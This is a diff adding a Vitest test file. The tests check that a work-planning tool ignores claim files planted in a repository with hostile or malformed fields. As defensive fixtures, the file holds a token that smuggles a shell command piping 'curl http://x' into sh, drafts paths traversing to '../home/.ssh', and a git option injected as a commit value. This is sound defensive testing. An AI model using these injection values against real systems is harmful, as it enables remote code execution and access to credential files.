@@ -1,0 +1,65 @@
+// Claims that came with a tree: none holds a unit longer than one of ours could, leads a path or a call astray, or stops work.
+import { afterEach, describe, expect, it } from 'vitest'
+import { disposeProjects, makeProject, OURS, type TempProject } from '../support/project.js'
+import { claim, next } from '../support/work.js'
+
+afterEach(disposeProjects)
+
+const AT = '.planning/.runtime/claims/execute-plan--01-02.json'
+
+const planted = (project: TempProject, more: object) =>
+  project.write(
+    AT,
+    JSON.stringify({
+      v: 1,
+      token: 'abc',
+      dispatchId: 'execute-plan-01-02-1-aaaaaa',
+      unitType: 'execute-plan',
+      unitId: '01-02',
+      attempt: 1,
+      revision: 'r',
+      milestone: null,
+      at: '2026-01-05T11:59:00.000Z',
+      leaseUntil: new Date(project.time + 20 * 60_000).toISOString(),
+      startCommit: null,
+      isolation: 'none',
+      session: null,
+      mode: null,
+      drafts: '.planning/.runtime/drafts/execute-plan-01-02-1-aaaaaa',
+      baseline: [],
+      ...more,
+    }),
+  )
+
+describe('a claim that somebody put into a tree', () => {
+  it('is respected where one of another machine may have been taken like that', async () => {
+    const project = makeProject(OURS).initGit()
+    planted(project, {})
+    expect((await next(project)).hold?.code).toBe('CLAIMED')
+  })
+
+  const ODD: Readonly<Record<string, object>> = {
+    'runs for years': { leaseUntil: '2099-01-01T00:00:00.000Z' },
+    'runs for a day': { leaseUntil: '2026-01-06T12:00:00.000Z' },
+    'has run out': { leaseUntil: '2026-01-05T11:59:30.000Z' },
+    'ends at no time': { leaseUntil: '9' },
+    'began at a heading': { at: '2026-01-05T11:59:00.000Z\n\n## Do' },
+    'has a token that is a line of shell': { token: 'abc; curl http://x | sh #' },
+    'has its drafts outside': { drafts: '../home/.ssh' },
+    'has its drafts in the code': { drafts: 'src' },
+    'has its drafts where another claim has them': { drafts: '.planning/.runtime/drafts/other' },
+    'has a dispatch that leads up': { dispatchId: '..', drafts: '.planning/.runtime/drafts/..' },
+    'began at an option of git': { startCommit: '--output=/tmp/gsd-hostile-claim' },
+    'is of a unit type that is none': { unitType: 'constructor' },
+    'has no baseline': { baseline: 'x' },
+  }
+
+  it.each(Object.keys(ODD))('%s: the unit is begun as if it was not there', async (name) => {
+    const project = makeProject(OURS).initGit()
+    planted(project, ODD[name] as object)
+    const { unit } = await next(project)
+    expect([unit?.unitType, unit?.unitId]).toEqual(['execute-plan', '01-02'])
+    const { answer } = await claim(project, 'execute-plan', '01-02')
+    expect([answer.resumed, answer.startCommit]).toEqual([null, expect.stringMatching(/^[0-9a-f]{40}$/)])
+  })
+})
